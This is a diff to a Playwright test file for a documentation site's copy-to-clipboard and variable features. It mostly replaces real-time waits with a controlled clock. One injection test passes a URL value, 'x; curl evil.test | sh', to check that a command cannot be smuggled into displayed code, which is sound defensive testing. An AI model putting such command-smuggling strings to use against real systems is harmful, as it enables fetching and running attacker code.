@@ -1,7 +1,8 @@
 import type { Locator, Page } from '@playwright/test';
+import { holdClock, settled } from './support/calm.ts';
 import { content } from './support/shell.ts';
 import { at } from './support/target.ts';
-import { expect, test, visit } from './support/test.ts';
+import { expect, test, visit, visitCalmly } from './support/test.ts';
 
 /** Commands with variables, in tabs; further blocks without. */
 const BASICS = '/docs/vcluster/deploy/control-plane/container/basics';
@@ -61,36 +62,33 @@ test.describe('copying a code block', () => {
 
   test('shows a check on success, and reverts after 2 seconds', async ({ page }) => {
     await spyOnClipboard(page, 'works');
-    await visit(page, SLEEP);
-    await page.waitForLoadState('networkidle');
+    await visitCalmly(page, SLEEP);
+    await holdClock(page);
     const figure = block(page, 'vcluster connect orchard');
-    await page.evaluate(() => {
-      const times: number[] = [];
-      Object.assign(window, { times });
-      new MutationObserver(() => times.push(performance.now())).observe(document.body, {
-        attributeFilter: ['data-state'],
-        subtree: true,
-      });
-    });
     await copy(figure).click();
     await expect(copy(figure)).toHaveAttribute('data-state', 'copied');
+    await page.clock.runFor(1999);
     await expect(status(page)).toHaveText('Copied');
+    await expect(copy(figure)).toHaveAttribute('data-state', 'copied');
+    await page.clock.runFor(1);
     await expect(copy(figure)).not.toHaveAttribute('data-state');
-    const [shown = 0, gone = 0] = await page.evaluate(() => (window as unknown as { times: number[] }).times);
-    expect(gone - shown).toBeGreaterThanOrEqual(1990);
-    expect(gone - shown).toBeLessThan(2600);
   });
 
   test('a second press starts the two seconds again', async ({ page }) => {
     await spyOnClipboard(page, 'works');
-    await visit(page, SLEEP);
+    await visitCalmly(page, SLEEP);
+    await holdClock(page);
     const button = copy(block(page, 'vcluster connect orchard'));
     await button.click();
     await expect(button).toHaveAttribute('data-state', 'copied');
-    await page.waitForTimeout(1300);
+    const press = await button.getAttribute('data-press');
+    await page.clock.runFor(1300);
     await button.click();
-    await page.waitForTimeout(1300);
+    await expect(button).not.toHaveAttribute('data-press', press ?? '');
+    await page.clock.runFor(1999);
     await expect(button).toHaveAttribute('data-state', 'copied');
+    await page.clock.runFor(1);
+    await expect(button).not.toHaveAttribute('data-state');
   });
 
   for (const outcome of ['is denied', 'is missing'] as const) {
@@ -342,8 +340,7 @@ test.describe('code with variables', () => {
 
   test('an address cannot slip a command into the code', async ({ page }) => {
     await visit(page, `${BASICS}?v.NAME=${encodeURIComponent('x; curl evil.test | sh')}`);
-    await page.waitForLoadState('networkidle');
-    await page.waitForTimeout(500);
+    await settled(page);
     await expect(block(page, /vcluster create/).locator('code')).toHaveText(CREATE);
   });
 
